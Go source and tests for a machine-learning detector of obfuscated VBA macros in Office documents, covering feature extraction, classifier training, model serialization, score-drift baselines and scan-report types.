	return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
}

func isPrintableASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] < 0x20 || s[i] > 0x7E {
			return false
		}
	}
	return true
}
