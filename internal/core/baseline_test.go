package core

import (
	"encoding/json"
	"math"
	"testing"

	"repro/internal/telemetry"
)

// stripJSONField rewrites a plain-JSON model blob without the named
// top-level field, simulating a model saved before that field existed.
func stripJSONField(blob []byte, field string) ([]byte, error) {
	var head map[string]json.RawMessage
	if err := json.Unmarshal(blob, &head); err != nil {
		return nil, err
	}
	delete(head, field)
	return json.Marshal(head)
}

// assertBaseline checks one channel's baseline is a well-formed score
// distribution: the right bin count, proportions summing to ~1, and a
// training-population count.
func assertBaseline(t *testing.T, b ChannelBaseline) {
	t.Helper()
	if len(b.Bins) != telemetry.DriftBins {
		t.Fatalf("channel %q: %d bins, want %d", b.Channel, len(b.Bins), telemetry.DriftBins)
	}
	var sum float64
	for _, p := range b.Bins {
		sum += p
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Fatalf("channel %q: bin proportions sum to %v", b.Channel, sum)
	}
	if b.Count <= 0 {
		t.Fatalf("channel %q: count = %d", b.Channel, b.Count)
	}
}

// TestBaselinesPersistRoundTrip checks train-time score baselines are
// computed for the trained channels, survive both the plain-JSON and the
// compiled-container save paths byte-for-byte, and stay absent (not
// fabricated) on models saved before baselines existed.
func TestBaselinesPersistRoundTrip(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	base := det.Baselines()
	if len(base) != 1 || base[0].Channel != "overall" {
		t.Fatalf("RF baselines = %+v, want one overall channel", base)
	}
	assertBaseline(t, base[0])

	for name, save := range map[string]func() ([]byte, error){
		"plain":    det.SaveModel,
		"compiled": det.SaveModelCompiled,
	} {
		blob, err := save()
		if err != nil {
			t.Fatalf("%s save: %v", name, err)
		}
		restored, err := LoadModel(blob)
		if err != nil {
			t.Fatalf("%s load: %v", name, err)
		}
		got := restored.Baselines()
		if len(got) != len(base) {
			t.Fatalf("%s: %d baselines after reload, want %d", name, len(got), len(base))
		}
		for i := range got {
			if got[i].Channel != base[i].Channel || got[i].Count != base[i].Count ||
				got[i].Mean != base[i].Mean {
				t.Fatalf("%s: baseline %d drifted: %+v vs %+v", name, i, got[i], base[i])
			}
			for j := range got[i].Bins {
				if got[i].Bins[j] != base[i].Bins[j] {
					t.Fatalf("%s: channel %q bin %d drifted", name, got[i].Channel, j)
				}
			}
		}
	}
}

// TestBaselinesStackedPerChannel checks the stacking ensemble records
// one baseline per feature channel plus the overall distribution, with
// channels matching the verdicts' per-channel contributions.
func TestBaselinesStackedPerChannel(t *testing.T) {
	det := trainSmall(t, AlgoStack, FeatureSetStack)
	base := det.Baselines()
	if len(base) < 2 {
		t.Fatalf("stacked baselines = %+v, want overall + per-channel", base)
	}
	names := map[string]bool{}
	for _, b := range base {
		assertBaseline(t, b)
		names[b.Channel] = true
	}
	if !names["overall"] {
		t.Fatal("stacked baselines missing the overall channel")
	}

	// Every channel a verdict reports must have a train-time baseline to
	// drift against.
	v, err := det.ClassifySource(probeSources()[0])
	if err != nil {
		t.Fatal(err)
	}
	if len(v.Channels) < 2 {
		t.Fatalf("stacked verdict channels = %+v", v.Channels)
	}
	for _, ch := range v.Channels {
		if !names[ch.Channel] {
			t.Fatalf("verdict channel %q has no baseline (have %v)", ch.Channel, names)
		}
	}
}

// TestBaselinesAbsentOnLegacyModel checks a model head without the
// baselines field loads with nil baselines rather than inventing them.
func TestBaselinesAbsentOnLegacyModel(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	blob, err := det.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	legacy, err := stripJSONField(blob, "baselines")
	if err != nil {
		t.Fatal(err)
	}
	restored, err := LoadModel(legacy)
	if err != nil {
		t.Fatalf("legacy model load: %v", err)
	}
	if restored.Baselines() != nil {
		t.Fatalf("legacy model grew baselines: %+v", restored.Baselines())
	}
	assertSameVerdicts(t, det, restored)
}
