package core

import (
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"testing"

	"repro/internal/corpus"
	"repro/internal/ml"
)

// probeSources returns deterministic macro sources for score comparisons.
func probeSources() []string {
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 12, 4
	spec.MaliciousMacros, spec.MaliciousObfuscated = 8, 7
	return corpus.GenerateMacros(spec).Sources()
}

// assertSameVerdicts checks that two detectors produce bit-identical scores
// on every probe source.
func assertSameVerdicts(t *testing.T, want, got *Detector) {
	t.Helper()
	for i, src := range probeSources() {
		a, err := want.ClassifySource(src)
		if err != nil {
			t.Fatalf("probe %d: %v", i, err)
		}
		b, err := got.ClassifySource(src)
		if err != nil {
			t.Fatalf("probe %d: %v", i, err)
		}
		if a.Score != b.Score || a.Obfuscated != b.Obfuscated {
			t.Fatalf("probe %d: verdict drift: %v/%v vs %v/%v",
				i, b.Score, b.Obfuscated, a.Score, a.Obfuscated)
		}
	}
}

func TestSaveModelCompiledRoundTrip(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	blob, err := det.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(blob, []byte(modelMagic)) {
		t.Fatal("SaveModelCompiled did not produce a container")
	}
	restored, err := LoadModel(blob)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := restored.clf.(*ml.CompiledForest); !ok {
		t.Fatalf("container load yielded %T, want *ml.CompiledForest", restored.clf)
	}
	assertSameVerdicts(t, det, restored)

	// A detector restored from the compiled section must still be able to
	// save the plain JSON model (via the retained raw blob) and re-save the
	// container itself.
	plain, err := restored.SaveModel()
	if err != nil {
		t.Fatal(err)
	}
	fromPlain, err := LoadModel(plain)
	if err != nil {
		t.Fatal(err)
	}
	assertSameVerdicts(t, det, fromPlain)
	again, err := restored.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(again, blob) {
		t.Fatal("re-saving a container-loaded detector changed the container bytes")
	}
}

func TestSaveModelCompiledNonForest(t *testing.T) {
	det := trainSmall(t, AlgoLDA, FeatureSetV)
	blob, err := det.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}
	if bytes.HasPrefix(blob, []byte(modelMagic)) {
		t.Fatal("non-forest model should serialize as plain JSON")
	}
	restored, err := LoadModel(blob)
	if err != nil {
		t.Fatal(err)
	}
	assertSameVerdicts(t, det, restored)
}

func TestLoadModelContainerSkewAndDamage(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	blob, err := det.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}

	t.Run("section_version_skew_falls_back", func(t *testing.T) {
		bad := append([]byte(nil), blob...)
		_, section, err := splitModelContainer(bad)
		if err != nil || section == nil {
			t.Fatalf("splitModelContainer: section=%v err=%v", section != nil, err)
		}
		binary.NativeEndian.PutUint32(section[8:], 99) // future section version
		restored, err := LoadModel(bad)
		if err != nil {
			t.Fatalf("version skew should fall back to JSON, got %v", err)
		}
		if _, ok := restored.clf.(*ml.RandomForest); !ok {
			t.Fatalf("fallback yielded %T, want *ml.RandomForest", restored.clf)
		}
		assertSameVerdicts(t, det, restored)
	})

	t.Run("container_version_skew_falls_back", func(t *testing.T) {
		bad := append([]byte(nil), blob...)
		binary.LittleEndian.PutUint32(bad[8:], modelContainerVersion+5)
		restored, err := LoadModel(bad)
		if err != nil {
			t.Fatalf("future container version should still load JSON, got %v", err)
		}
		assertSameVerdicts(t, det, restored)
	})

	t.Run("section_corruption_is_an_error", func(t *testing.T) {
		bad := append([]byte(nil), blob...)
		_, section, err := splitModelContainer(bad)
		if err != nil || section == nil {
			t.Fatalf("splitModelContainer: section=%v err=%v", section != nil, err)
		}
		section[70] ^= 0x10 // flip a payload bit past the section header
		if _, err := LoadModel(bad); err == nil {
			t.Fatal("corrupt compiled section must not load silently")
		}
	})

	t.Run("truncated_container_is_an_error", func(t *testing.T) {
		if _, err := LoadModel(blob[:20]); err == nil {
			t.Fatal("truncated preamble accepted")
		}
		if _, err := LoadModel(blob[:len(blob)-30]); err == nil {
			t.Fatal("truncated section accepted")
		}
	})
}

func TestLoadModelFile(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	blob, err := det.SaveModelCompiled()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "model.bin")
	if err := os.WriteFile(path, blob, 0o644); err != nil {
		t.Fatal(err)
	}

	t.Run("mmap", func(t *testing.T) {
		loaded, err := LoadModelFile(path, true)
		if err != nil {
			t.Fatal(err)
		}
		m := loaded.ModelMapping()
		if m == nil {
			t.Fatal("mmap load of an aligned container should keep the mapping")
		}
		assertSameVerdicts(t, det, loaded)
		if err := loaded.Close(); err != nil {
			t.Fatal(err)
		}
		if !m.Unmapped() {
			t.Fatal("Close with no in-flight scans should unmap the model image")
		}
		if err := loaded.Close(); err != nil {
			t.Fatalf("Close must be idempotent: %v", err)
		}
	})

	t.Run("read", func(t *testing.T) {
		loaded, err := LoadModelFile(path, false)
		if err != nil {
			t.Fatal(err)
		}
		if loaded.ModelMapping() != nil {
			t.Fatal("plain read must not report a mapping")
		}
		assertSameVerdicts(t, det, loaded)
		if err := loaded.Close(); err != nil {
			t.Fatalf("Close without a mapping: %v", err)
		}
	})

	t.Run("missing", func(t *testing.T) {
		if _, err := LoadModelFile(filepath.Join(t.TempDir(), "nope"), true); err == nil {
			t.Fatal("missing model file accepted")
		}
	})
}

func TestSetClassifyBatchRouting(t *testing.T) {
	det := trainSmall(t, AlgoRF, FeatureSetV)
	calls := 0
	det.SetClassifyBatch(func(X [][]float64) ([]int, []float64) {
		calls++
		return det.PredictBatch(X)
	})
	x := det.featureSet.Extract("Sub A()\nb = Chr(1) & Chr(2)\nEnd Sub")
	labels, scores := det.predictRows([][]float64{x})
	if calls != 1 {
		t.Fatalf("classify hook called %d times, want 1", calls)
	}
	wantLabels, wantScores := det.PredictBatch([][]float64{x})
	if labels[0] != wantLabels[0] || scores[0] != wantScores[0] {
		t.Fatal("hooked classification drifted from direct PredictBatch")
	}
	det.SetClassifyBatch(nil)
	det.predictRows([][]float64{x})
	if calls != 1 {
		t.Fatal("nil hook must restore the inline path")
	}
}
