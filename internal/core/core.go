// Package core assembles the paper's contribution into a usable library:
// a Detector that extracts VBA macros from Office documents, computes the
// V1–V15 (or J1–J20) static features, and classifies each macro as
// obfuscated or not with one of the five supported classifiers.
//
// The pipeline mirrors §IV: extraction (oletools equivalent) →
// preprocessing (dedup, significance filter) → feature extraction →
// classification, with 10-fold cross-validated training provided by
// package eval.
package core

import (
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/analysis"
	"repro/internal/cache"
	"repro/internal/deob"
	"repro/internal/extract"
	"repro/internal/features"
	"repro/internal/hostile"
	"repro/internal/ml"
	"repro/internal/telemetry"
)

// FeaturizeAll extracts the set's feature vector for every source across
// workers goroutines (workers <= 0 means GOMAXPROCS). Row i is always the
// vector of sources[i], so the result is deterministic regardless of the
// worker count.
func FeaturizeAll(fs FeatureSet, sources []string, workers int) [][]float64 {
	X := make([][]float64, len(sources))
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > len(sources) {
		workers = len(sources)
	}
	if workers <= 1 {
		for i, src := range sources {
			X[i] = fs.Extract(src)
		}
		return X
	}
	var next atomic.Int64
	next.Store(-1)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1))
				if i >= len(sources) {
					return
				}
				X[i] = fs.Extract(sources[i])
			}
		}()
	}
	wg.Wait()
	return X
}

// Algorithm identifies one of the five classifiers of §IV.D, or the
// channel-stacking ensemble.
type Algorithm string

// Supported algorithms.
const (
	AlgoSVM Algorithm = "svm"
	AlgoRF  Algorithm = "rf"
	AlgoMLP Algorithm = "mlp"
	AlgoLDA Algorithm = "lda"
	AlgoBNB Algorithm = "bnb"
	// AlgoStack is the stacking ensemble: one Random Forest per feature
	// channel plus a logistic combiner. It needs the feature set's channel
	// layout, so it is built by NewDetector rather than NewClassifier.
	AlgoStack Algorithm = "stack"
)

// Algorithms lists all supported algorithms in the paper's order.
func Algorithms() []Algorithm {
	return []Algorithm{AlgoSVM, AlgoRF, AlgoMLP, AlgoLDA, AlgoBNB}
}

// NewClassifier constructs a fresh classifier for the algorithm with the
// paper's hyperparameters (SVM C=150 γ=0.03; RF 100 trees; MLP 100 hidden
// units with Adam). SVM, MLP and LDA are wrapped with standardization.
func NewClassifier(algo Algorithm, seed int64) (ml.Classifier, error) {
	switch algo {
	case AlgoSVM:
		return ml.NewScaled(ml.NewSVM(seed)), nil
	case AlgoRF:
		return ml.NewRandomForest(seed), nil
	case AlgoMLP:
		return ml.NewScaled(ml.NewMLP(seed)), nil
	case AlgoLDA:
		return ml.NewScaled(ml.NewLDA()), nil
	case AlgoBNB:
		return ml.NewBernoulliNB(), nil
	case AlgoStack:
		return nil, fmt.Errorf("core: algorithm %q needs a channel layout; construct it through NewDetector", algo)
	default:
		return nil, fmt.Errorf("core: unknown algorithm %q", algo)
	}
}

// ErrNotTrained is returned when classifying before Train/LoadModel.
var ErrNotTrained = errors.New("core: detector is not trained")

// macroCached is one memoized featurize+classify outcome. The shared
// analysis object is immutable after construction (V/J build fresh slices,
// triage and deobfuscation only read the parse), so one entry can serve
// concurrent scanning goroutines.
type macroCached struct {
	analysis   *MacroAnalysis
	obfuscated bool
	score      float64
	channels   []ChannelScore
}

// MacroCache memoizes per-macro featurization and classification across
// documents, keyed by the SHA-256 of the macro source. Malware corpora are
// dominated by duplicated modules (the paper's Table II dedup step removes
// the bulk of raw samples), so a scan over a realistic corpus re-parses
// the same macro text many times; the cache turns every repeat into a hash
// lookup while keeping verdicts bit-identical — the cached score is the
// score the classifier produced for that exact source.
type MacroCache struct {
	c *cache.Cache[macroCached]
}

// NewMacroCache returns a cache bounded by maxEntries entries and maxBytes
// charged bytes (either ≤ 0 lifts that bound; both ≤ 0 disables the cache,
// returning nil, which every method tolerates).
func NewMacroCache(maxEntries int, maxBytes int64) *MacroCache {
	c := cache.New[macroCached](maxEntries, maxBytes)
	if c == nil {
		return nil
	}
	return &MacroCache{c: c}
}

// Stats reports the cache's hit/miss/eviction counters and current size.
func (m *MacroCache) Stats() cache.Stats {
	if m == nil {
		return cache.Stats{}
	}
	return m.c.Stats()
}

func (m *MacroCache) lookup(k cache.Key) (macroCached, bool) {
	if m == nil {
		return macroCached{}, false
	}
	return m.c.Get(k)
}

// macroCost approximates an entry's memory footprint: the retained source
// string plus the parse (tokens, procedures) it anchors, which empirically
// runs a small multiple of the source length.
func macroCost(src string) int64 { return 4*int64(len(src)) + 512 }

func (m *MacroCache) store(k cache.Key, src string, e macroCached) {
	if m == nil {
		return
	}
	m.c.Put(k, e, macroCost(src))
}

// Detector is the end-to-end obfuscation detector.
type Detector struct {
	featureSet FeatureSet
	algo       Algorithm
	clf        ml.Classifier
	trained    bool
	workers    int
	limits     hostile.Limits
	macros     *MacroCache
	// cacheSalt is the feature set's cache identity (FeatureSet.CacheID),
	// precomputed so hot-path cache keys don't rebuild it per macro. Two
	// detectors over different channel layouts never share cache entries.
	cacheSalt string

	// baselines are the per-channel train-time score distributions
	// persisted with the model — the reference a production drift monitor
	// compares live score distributions against. Nil for models saved
	// before baselines existed.
	baselines []ChannelBaseline

	// classifyBatch, when set, replaces the inline classifier call in
	// ScanFileCtx's classify phase (see SetClassifyBatch).
	classifyBatch func(X [][]float64) ([]int, []float64)
	// modelRaw is the JSON classifier blob this detector was loaded from,
	// kept so SaveModel works even when clf is a compiled-only forest.
	modelRaw json.RawMessage
	// mapping is the mmap'd model image backing clf, owned by the
	// detector (see LoadModelFile and Close).
	mapping *ml.Mapping

	// modelSHA is the hex SHA-256 of the serialized model image this
	// detector was loaded from — the fleet-wide model identity a gateway
	// compares across backends before routing. Computed at load time;
	// detectors trained in-process derive it lazily from SaveModel.
	modelSHA   string
	modelSHAMu sync.Mutex
}

// ModelSHA returns the hex SHA-256 of the detector's serialized model —
// for a detector restored with LoadModel/LoadModelFile, the hash of the
// exact bytes it was loaded from (container or plain JSON). A detector
// trained in-process hashes its SaveModel serialization on first call and
// memoizes the result. Empty for an untrained detector.
func (d *Detector) ModelSHA() string {
	d.modelSHAMu.Lock()
	defer d.modelSHAMu.Unlock()
	if d.modelSHA == "" && d.trained {
		if blob, err := d.SaveModel(); err == nil {
			sum := sha256.Sum256(blob)
			d.modelSHA = hex.EncodeToString(sum[:])
		}
	}
	return d.modelSHA
}

// SetMacroCache attaches a macro-level verdict cache consulted by
// ScanFileCtx before featurizing each significant macro. A nil cache (the
// default) disables memoization. The cache may be shared across detectors
// only if they use the same feature set, algorithm and trained model;
// after retraining or reloading a model, attach a fresh cache.
func (d *Detector) SetMacroCache(c *MacroCache) { d.macros = c }

// MacroCache returns the attached macro cache (nil when disabled).
func (d *Detector) MacroCache() *MacroCache { return d.macros }

// SetLimits configures the per-document resource budget applied by
// ScanFile/ScanFileCtx. Zero fields take the hostile package defaults.
func (d *Detector) SetLimits(l hostile.Limits) { d.limits = l }

// Limits reports the configured resource limits (normalized).
func (d *Detector) Limits() hostile.Limits { return d.limits.Normalize() }

// SetWorkers bounds the detector's training-time concurrency: featurization
// fans out across n goroutines and a Random Forest classifier trains n
// trees at a time (n <= 0 restores the GOMAXPROCS default). Results are
// deterministic for a fixed seed regardless of n.
func (d *Detector) SetWorkers(n int) {
	d.workers = n
	setClassifierWorkers(d.clf, n)
}

// Workers reports the configured concurrency bound (0 = GOMAXPROCS).
func (d *Detector) Workers() int { return d.workers }

func setClassifierWorkers(c ml.Classifier, n int) {
	switch v := c.(type) {
	case *ml.RandomForest:
		v.Workers = n
	case *ml.Stacked:
		v.Workers = n
	case *ml.Scaled:
		setClassifierWorkers(v.Inner, n)
	}
}

// NewDetector creates an untrained detector. AlgoStack builds the stacking
// ensemble from the feature set's channel layout (one forest per channel);
// every other algorithm sees the set's concatenated vector as a whole.
func NewDetector(algo Algorithm, fs FeatureSet, seed int64) (*Detector, error) {
	if !fs.valid() {
		return nil, fmt.Errorf("core: unknown feature set %d", int(fs))
	}
	var clf ml.Classifier
	if algo == AlgoStack {
		chans := fs.Channels()
		names := make([]string, len(chans))
		dims := make([]int, len(chans))
		for i, c := range chans {
			names[i] = c.Name
			dims[i] = c.Dim()
		}
		clf = ml.NewStacked(names, dims, seed)
	} else {
		var err error
		clf, err = NewClassifier(algo, seed)
		if err != nil {
			return nil, err
		}
	}
	return &Detector{featureSet: fs, algo: algo, clf: clf, cacheSalt: fs.CacheID()}, nil
}

// FeatureSetID returns the feature set's cache identity string — the salt
// folded into every macro- and document-level cache key, so entries
// written under one channel layout can never satisfy lookups under
// another.
func (d *Detector) FeatureSetID() string { return d.cacheSalt }

// FeatureSet reports the detector's feature set.
func (d *Detector) FeatureSet() FeatureSet { return d.featureSet }

// Algorithm reports the detector's classifier algorithm.
func (d *Detector) Algorithm() Algorithm { return d.algo }

// Train fits the detector on macro sources with obfuscation labels
// (1 = obfuscated). Featurization fans out across the configured worker
// count (SetWorkers; default GOMAXPROCS); the fitted model is identical
// for a fixed seed regardless of the worker count.
func (d *Detector) Train(sources []string, labels []int) error {
	if len(sources) != len(labels) {
		return fmt.Errorf("core: %d sources vs %d labels", len(sources), len(labels))
	}
	X := FeaturizeAll(d.featureSet, sources, d.workers)
	if err := d.clf.Fit(X, labels); err != nil {
		return fmt.Errorf("core: train: %w", err)
	}
	switch v := d.clf.(type) {
	case *ml.RandomForest:
		// Scanning is inference-only from here on; the compiled engine is
		// bit-identical and several times faster. Non-compilable ensembles
		// (which Fit cannot produce) just keep the flattened walk.
		_ = v.Compile()
	case *ml.Stacked:
		_ = v.Compile()
	}
	d.modelRaw = nil
	d.trained = true
	d.baselines = d.computeBaselines(X)
	return nil
}

// ChannelBaseline is one channel's train-time score distribution,
// persisted in the model so production can measure drift against it:
// the proportion of training scores landing in each of the
// telemetry.DriftBins equal-width bins over [0,1], plus count and mean.
type ChannelBaseline struct {
	Channel string    `json:"channel"`
	Bins    []float64 `json:"bins"`
	Count   int       `json:"count"`
	Mean    float64   `json:"mean"`
}

// Baselines returns the per-channel train-time score baselines (nil for
// models saved before baselines existed — drift monitors then track the
// channels without a reference distribution).
func (d *Detector) Baselines() []ChannelBaseline { return d.baselines }

// computeBaselines scores the training rows through the freshly fitted
// model and bins the score distribution — overall, plus per channel for
// the stacking ensemble.
func (d *Detector) computeBaselines(X [][]float64) []ChannelBaseline {
	if len(X) == 0 {
		return nil
	}
	_, scores := ml.PredictBatch(d.clf, X)
	out := []ChannelBaseline{binBaseline("overall", scores)}
	if st, ok := d.clf.(*ml.Stacked); ok {
		cols := st.ChannelScoreBatch(X)
		col := make([]float64, len(cols))
		for c := range st.ChannelNames {
			for k := range cols {
				col[k] = cols[k][c]
			}
			out = append(out, binBaseline(st.ChannelNames[c], col))
		}
	}
	return out
}

func binBaseline(name string, scores []float64) ChannelBaseline {
	var sum float64
	for _, s := range scores {
		sum += s
	}
	mean := 0.0
	if len(scores) > 0 {
		mean = sum / float64(len(scores))
	}
	return ChannelBaseline{
		Channel: name,
		Bins:    telemetry.ScoreBins(scores),
		Count:   len(scores),
		Mean:    mean,
	}
}

// SetClassifyBatch overrides how ScanFileCtx's classify phase scores
// pending feature rows — the hook point for a daemon-level coalescer that
// merges rows from concurrent scans into one forest batch call. fn must
// return one label and one score per input row, and must be safe for
// concurrent calls. Configure before serving scans; a nil fn restores the
// inline classifier call.
func (d *Detector) SetClassifyBatch(fn func(X [][]float64) ([]int, []float64)) {
	d.classifyBatch = fn
}

// PredictBatch scores pre-computed feature rows through the detector's
// classifier (one batched call, bit-identical to per-row scoring). It pins
// the model mapping for the duration of the call, so a concurrent Close
// cannot unmap the image mid-batch.
func (d *Detector) PredictBatch(X [][]float64) ([]int, []float64) {
	if d.mapping != nil && d.mapping.Retain() {
		defer d.mapping.Release()
	}
	return ml.PredictBatch(d.clf, X)
}

// predictRows routes the classify phase through the configured batcher.
func (d *Detector) predictRows(X [][]float64) ([]int, []float64) {
	if d.classifyBatch != nil {
		return d.classifyBatch(X)
	}
	return d.PredictBatch(X)
}

// classifyPending scores the batch and reports per-channel contributions.
// For the stacking ensemble on the inline path, the per-channel forest
// pass IS the verdict computation (the combiner fold costs nothing), so
// contributions come for free; under a classify-batch override the
// verdict goes through the override and the channel pass runs alongside.
// Every other model reports one "overall" channel mirroring the final
// score.
func (d *Detector) classifyPending(X [][]float64) (labels []int, scores []float64, chans [][]ChannelScore) {
	st, stacked := d.clf.(*ml.Stacked)
	if stacked && d.classifyBatch == nil {
		cols := st.ChannelScoreBatch(X)
		labels = make([]int, len(X))
		scores = make([]float64, len(X))
		for k, row := range cols {
			scores[k] = st.CombineChannels(row)
			if scores[k] >= 0.5 {
				labels[k] = ml.Positive
			} else {
				labels[k] = ml.Negative
			}
		}
		return labels, scores, d.channelRecords(st, cols)
	}
	labels, scores = d.predictRows(X)
	if stacked {
		return labels, scores, d.channelRecords(st, st.ChannelScoreBatch(X))
	}
	chans = make([][]ChannelScore, len(X))
	for k := range X {
		chans[k] = []ChannelScore{{Channel: "overall", Score: scores[k], Weight: 1}}
	}
	return labels, scores, chans
}

// channelRecords shapes the stacked ensemble's per-channel score columns
// into wire-ready ChannelScore rows, attaching the combiner weights.
func (d *Detector) channelRecords(st *ml.Stacked, cols [][]float64) [][]ChannelScore {
	weights, _ := st.CombinerWeights()
	out := make([][]ChannelScore, len(cols))
	for k, row := range cols {
		rec := make([]ChannelScore, len(row))
		for c, s := range row {
			rec[c] = ChannelScore{Channel: st.ChannelNames[c], Score: s}
			if c < len(weights) {
				rec[c].Weight = weights[c]
			}
		}
		out[k] = rec
	}
	return out
}

// MacroAnalysis is the shared single-parse view of one macro: the source
// is lexed and parsed exactly once, and classification (V or J vector),
// triage and deobfuscation all read from that one parse.
type MacroAnalysis struct {
	feat *features.Analysis
}

// Analyze parses src once and returns the shared analysis object.
func Analyze(src string) *MacroAnalysis {
	return &MacroAnalysis{feat: features.Analyze(src)}
}

// Source returns the analyzed macro text.
func (a *MacroAnalysis) Source() string { return a.feat.Source() }

// Features returns the feature vector of the set, computed from the shared
// parse (both V and J come from the same Analyze call).
func (a *MacroAnalysis) Features(fs FeatureSet) []float64 {
	return fs.vectorOf(a.feat)
}

// Triage runs the olevba-style triage (auto-exec entry points, suspicious
// keywords, IOCs — including those only visible after deobfuscation) on
// the shared parse.
func (a *MacroAnalysis) Triage() *analysis.Report {
	return analysis.AnalyzeModule(a.feat.Module())
}

// Deobfuscate constant-folds the macro's split and encoded string
// expressions, reusing the shared parse for the first folding round.
func (a *MacroAnalysis) Deobfuscate() deob.Result {
	return deob.DeobfuscateModule(a.feat.Module())
}

// ChannelScore is one feature channel's contribution to a macro verdict:
// the channel's own forest score and the weight the combiner assigns it.
// Non-stacked models report a single "overall" entry mirroring the final
// score, so the triage surface is uniform across model kinds.
type ChannelScore struct {
	Channel string  `json:"channel"`
	Score   float64 `json:"score"`
	Weight  float64 `json:"weight,omitempty"`
}

// MacroVerdict is the per-macro classification outcome.
type MacroVerdict struct {
	// Module is the VBA module name.
	Module string
	// Obfuscated is the predicted label.
	Obfuscated bool
	// Score is the classifier's decision score (higher = more likely
	// obfuscated; the decision threshold depends on the algorithm).
	Score float64
	// Channels are the per-channel score contributions behind Score (see
	// ChannelScore).
	Channels []ChannelScore
	// Source is the macro text.
	Source string
	// Analysis is the macro's shared single-parse analysis; triage and
	// deobfuscation through it reuse the parse that produced the features.
	Analysis *MacroAnalysis
}

// FileReport is the outcome of scanning one document.
type FileReport struct {
	// Format is the detected container format ("ole" or "ooxml").
	Format string
	// Project is the VBA project name.
	Project string
	// Macros holds one verdict per significant extracted macro.
	Macros []MacroVerdict
	// Skipped counts extracted macros below the significance threshold.
	Skipped int
	// StorageStrings are printable strings recovered from document
	// storage outside the macro code (UserForm captions, document
	// variables) — where hidden-string anti-analysis parks payloads.
	StorageStrings []string
	// Degraded reports that extraction was partial: some streams or
	// modules were lost to corruption or resource limits, and Macros
	// holds only the verdicts for what survived.
	Degraded bool
	// Errors lists the per-stream extraction failures behind Degraded.
	Errors []extract.StreamError
}

// Obfuscated reports whether any macro in the file was classified as
// obfuscated.
func (r *FileReport) Obfuscated() bool {
	for _, m := range r.Macros {
		if m.Obfuscated {
			return true
		}
	}
	return false
}

// VerdictJSON is the wire representation of one macro verdict: the
// classification outcome without the macro source or the parse-heavy
// Analysis object, sized for service responses.
type VerdictJSON struct {
	Module     string  `json:"module"`
	Obfuscated bool    `json:"obfuscated"`
	Score      float64 `json:"score"`
	// Channels are the per-channel score contributions behind Score —
	// the triage view of which feature family drove the verdict.
	Channels []ChannelScore `json:"channels,omitempty"`
	// SourceBytes is the macro length, so callers can tell a trivial stub
	// from a real module without shipping the source over the wire.
	SourceBytes int `json:"source_bytes"`
}

// StreamErrorJSON is the wire representation of one per-stream extraction
// failure inside a degraded report.
type StreamErrorJSON struct {
	Stream string `json:"stream"`
	// Class is the hostile-taxonomy class of the failure ("truncated",
	// "malformed", "bomb", "limit", "cycle", "deadline"), or "" when the
	// error falls outside the taxonomy.
	Class   string `json:"class,omitempty"`
	Message string `json:"message"`
}

// ReportJSON is the wire representation of a FileReport.
type ReportJSON struct {
	Format     string        `json:"format"`
	Project    string        `json:"project,omitempty"`
	Obfuscated bool          `json:"obfuscated"`
	Macros     []VerdictJSON `json:"macros"`
	Skipped    int           `json:"skipped"`
	// StorageStrings counts printable strings recovered from document
	// storage outside macro code (hidden-string anti-analysis payloads).
	StorageStrings int `json:"storage_strings"`
	// Degraded marks a partial extraction: verdicts cover only the
	// macros that survived; Errors explains what was lost.
	Degraded bool              `json:"degraded,omitempty"`
	Errors   []StreamErrorJSON `json:"errors,omitempty"`
	// ContainerPath is the provenance of a document discovered inside a
	// container by the recursive walker: the "!"-joined chain of archive
	// entry names leading to it ("attachments.zip!invoice.docm"). Empty
	// for the submitted document itself. Set by container-walking callers,
	// not by FileReport.JSON.
	ContainerPath string `json:"container_path,omitempty"`
}

// JSON converts the report to its wire representation.
func (r *FileReport) JSON() *ReportJSON {
	out := &ReportJSON{
		Format:         r.Format,
		Project:        r.Project,
		Obfuscated:     r.Obfuscated(),
		Macros:         make([]VerdictJSON, len(r.Macros)),
		Skipped:        r.Skipped,
		StorageStrings: len(r.StorageStrings),
		Degraded:       r.Degraded,
	}
	for i, m := range r.Macros {
		out.Macros[i] = VerdictJSON{
			Module:      m.Module,
			Obfuscated:  m.Obfuscated,
			Score:       m.Score,
			Channels:    m.Channels,
			SourceBytes: len(m.Source),
		}
	}
	for _, e := range r.Errors {
		out.Errors = append(out.Errors, StreamErrorJSON{
			Stream:  e.Stream,
			Class:   hostile.Classify(e.Err),
			Message: e.Err.Error(),
		})
	}
	return out
}

// ClassifySource classifies a single macro source.
func (d *Detector) ClassifySource(src string) (MacroVerdict, error) {
	return d.ClassifyAnalysis(Analyze(src))
}

// ClassifyAnalysis classifies an already-analyzed macro, reusing its
// single parse for the feature vector.
func (d *Detector) ClassifyAnalysis(a *MacroAnalysis) (MacroVerdict, error) {
	if !d.trained {
		return MacroVerdict{}, ErrNotTrained
	}
	x := a.Features(d.featureSet)
	labels, scores, chans := d.classifyPending([][]float64{x})
	return MacroVerdict{
		Obfuscated: labels[0] == ml.Positive,
		Score:      scores[0],
		Channels:   chans[0],
		Source:     a.Source(),
		Analysis:   a,
	}, nil
}

